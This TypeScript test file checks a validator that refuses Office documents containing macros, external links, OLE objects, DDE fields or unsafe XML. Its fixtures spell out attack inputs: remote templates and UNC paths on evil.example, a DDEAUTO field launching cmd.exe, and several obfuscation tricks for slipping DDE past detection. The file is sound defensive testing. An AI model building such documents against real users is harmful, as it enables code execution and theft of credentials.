import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildOfficeFile, buildZip } from '../../../test/support/example-files.ts';
import { useTemporaryDirectory } from '../../../test/support/fixture.ts';
import { requireSafeOfficeFile } from './office-file.ts';

// A word that begins with an entity. cspell:ignore xternal

const directory = useTemporaryDirectory();

async function outcome(content: Buffer): Promise<string> {
  const path = join(directory(), 'document');
  await writeFile(path, content);
  return requireSafeOfficeFile(path).then(
    () => 'accepted',
    (error: unknown) => String(error),
  );
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
const COMPOUND_FILE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);

const relationships = (...elements: string[]) => ({
  name: 'word/_rels/document.xml.rels',
  content: `<?xml version="1.0" encoding="UTF-8"?><Relationships>${elements.join('')}</Relationships>`,
});
const relationship = (type: string, target: string, mode = 'TargetMode="External"') =>
  relationships(`<Relationship Id="rId1" Type="${type}" Target="${target}" ${mode}/>`);
const part = (name: string, content: string | Buffer) => ({ name, content });
const types = (...contentTypes: string[]) =>
  part(
    '[Content_Types].xml',
    `<Types>${contentTypes.map((type) => `<Override ContentType="${type}"/>`).join('')}</Types>`,
  );
const body = (xml: string) =>
  part('word/document2.xml', `<?xml version="1.0"?><w:document><w:p>${xml}</w:p></w:document>`);
const run = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`;
const field = (...runs: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

type Part = ReturnType<typeof part>;
type Trick = readonly [string, Part];

const MACROS: readonly Trick[] = [
  ['a VBA project under another name', part('word/media/image1.png', COMPOUND_FILE)],
  ['the content type of a VBA project', types('application/vnd.ms-office.vbaProject')],
  ['the content type of a macro document', types('application/vnd.ms-word.document.macroEnabled.main+xml')],
  ['a content type with entities', types('application/vnd.ms-office.vb&#97;Project')],
  [
    'a content type in UTF-16',
    part('[content_types].XML', utf16('<Types><Override ContentType="x/vbaProject"/></Types>')),
  ],
  ['a relationship to a VBA project', relationship(`${MICROSOFT}/vbaProject`, 'media/image1.png', '')],
  ['Excel 4 macros', types('application/vnd.ms-excel.macrosheet+xml')],
];

const EXTERNAL: readonly Trick[] = [
  ['a remote template', relationship(`${OFFICE}/attachedTemplate`, 'https://evil.example/t.dotm')],
  ['a template on a share', relationship(`${OFFICE}/attachedTemplate`, 'file://evil.example/t.dotm')],
  ['a template on a UNC path', relationship(`${OFFICE}/attachedTemplate`, '\\\\evil.example\\t.dotm', '')],
  ['a remote image', relationship(`${OFFICE}/image`, 'http://evil.example/pixel.png')],
  ['a remote frame', relationship(`${OFFICE}/frame`, 'https://evil.example/')],
  ['a remote document', relationship(`${OFFICE}/subDocument`, 'https://evil.example/a.docx')],
  ['another workbook', relationship(`${OFFICE}/externalLinkPath`, 'file:///C:/other.xlsx')],
  [
    'single quotes and entities',
    relationships(`<Relationship Type='x/image' TargetMode='&#69;xternal' Target='a>b'/>`),
  ],
  [
    'a namespace prefix',
    relationships(`<r:Relationship Type="x/image" Target="a" TargetMode="External"></r:Relationship>`),
  ],
  ['a URL that does not say it is external', relationship(`${OFFICE}/image`, 'https://evil.example/', '')],
  ['a name in capitals', part('WORD/_RELS/DOCUMENT.XML.RELS', relationship('x/image', 'a').content)],
];

const OLE: readonly Trick[] = [
  ['an OLE object', part('word/embeddings/oleObject1.bin', COMPOUND_FILE)],
  ['a relationship to an OLE object', relationship(`${OFFICE}/oleObject`, 'embeddings/a.docx', '')],
  ['a remote OLE object', relationship(`${OFFICE}/oleObject`, 'https://evil.example/a')],
  ['an ActiveX control', relationship(`${OFFICE}/control`, 'activeX/activeX1.xml', '')],
  ['an embedded object element', body('<o:OLEObject Type="Embed" ProgID="Package"/>')],
  [
    'an OLE object in an embedded workbook',
    part('word/a.xlsx', buildOfficeFile('xlsx', [part('x.bin', COMPOUND_FILE)])),
  ],
];

const DDE: readonly Trick[] = [
  ['a DDE field', body(field(run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')))],
  ['a lower-case DDE field', body(field(run('dde excel')))],
  ['a DDE field in several runs', body(field(run('DD'), run('EAU'), run('TO cmd')))],
  ['a DDE field with entities', body(field(run('D&#68;E cmd')))],
  ['a DDE field with a comment', body(field(run('D<!-- -->DE cmd')))],
  ['a DDE field in CDATA', body(field(run('<![CDATA[DDE cmd]]>')))],
  ['a simple DDE field', body('<w:fldSimple w:instr=" DDEAUTO cmd "/>')],
  ['a DDE field after much white space', body(field(run(`${' '.repeat(200_000)}DDE cmd`)))],
  ['a DDE field in UTF-16', part('word/a.xml', utf16(`<w:p>${field(run('DDE cmd'))}</w:p>`))],
  [
    'a DDE link',
    part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
  ],
];

const UNREADABLE: readonly Trick[] = [
  ['XML entities', part('word/a.xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "DDE">]><a>&b;</a>')],
  ['entities in relationships', part('_rels/.rels', '<!DOCTYPE a [<!ENTITY b "x">]><Relationships/>')],
  ['another encoding', part('word/a.xml', '<?xml version="1.0" encoding="utf-7"?><a/>')],
  ['XML that does not end', part('word/a.xml', '<a><b attribute="')],
];

const refuses = (tricks: readonly Trick[], words: RegExp) =>
  it.each(tricks)('S15: a document with %s is refused', async (_, trick) => {
    expect(await outcome(buildOfficeFile('docx', [trick]))).toMatch(words);
  });

describe('An office file that runs something', () => {
  refuses(MACROS, /macro.*as PDF/);
  refuses(EXTERNAL, /^Error: The document loads .* from an external source\. .*as PDF/);
  refuses(OLE, /embedded object.*as PDF/);
  refuses(DDE, /uses DDE.*as PDF/);
  refuses(UNREADABLE, /damaged or unsafe/);

  it('S15: documents within embedded documents are refused', async () => {
    const inner = buildOfficeFile('xlsx', [part('xl/a.xlsx', buildOfficeFile('xlsx'))]);
    expect(await outcome(buildOfficeFile('docx', [part('word/a.xlsx', inner)]))).toMatch(/embedded documents/);
  });

  it('S15: a list of relationships beyond all bounds is refused', async () => {
    const long = `<Relationships>${Array.from({ length: 60_000 }, (_, n) => `<Relationship Id="${String(Math.sin(n))}"/>`).join('')}`;
    const padded = Buffer.concat([Buffer.from(long), Buffer.from(long), Buffer.from(long)]);
    expect(await outcome(buildOfficeFile('docx', [part('_rels/.rels', padded)]))).toMatch(/too large to be inspected/);
  });
});

describe('An ordinary office file', () => {
  it.each<readonly [string, Part]>([
    ['hyperlinks', relationship(`${OFFICE}/hyperlink`, 'https://larkfield.example/?a=1&amp;b=2')],
    [
      'a template on the computer of its author',
      relationship(`${OFFICE}/attachedTemplate`, 'file:///C:\\Templates\\A.dotx'),
    ],
    ['images', relationship(`${OFFICE}/image`, 'media/image1.png', '')],
    ['the data of a chart', part('word/embeddings/Sheet.xlsx', buildOfficeFile('xlsx'))],
    [
      'fields',
      body(field(run(' PAGE ')) + field(run('HYPERLINK "https://dde.example"')) + '<w:t>DDE &amp; DDEAUTO</w:t>'),
    ],
    [
      'chart styles',
      types('application/vnd.ms-office.chartstyle+xml', 'application/vnd.ms-office.chartcolorstyle+xml'),
    ],
    ['printer settings', part('xl/printerSettings/printerSettings1.bin', Buffer.alloc(200, 1))],
    ['UTF-16', part('word/a.xml', utf16('<?xml version="1.0" encoding="UTF-16"?><a>text</a>'))],
    ['an empty part', part('word/a.xml', '')],
  ])('with %s is accepted', async (_, ordinary) => {
    expect(await outcome(buildOfficeFile('docx', [ordinary]))).toBe('accepted');
  });

  it('with a large sheet is accepted', async () => {
    const rows = Array.from(
      { length: 100_000 },
      (_, n) => `<row r="${String(n)}"><c t="n"><v>${String(Math.sin(n))}</v></c></row>`,
    );
    const sheet = part('xl/worksheets/sheet1.xml', `<worksheet><sheetData>${rows.join('')}</sheetData></worksheet>`);
    expect(await outcome(buildZip([sheet]))).toBe('accepted');
  });
});
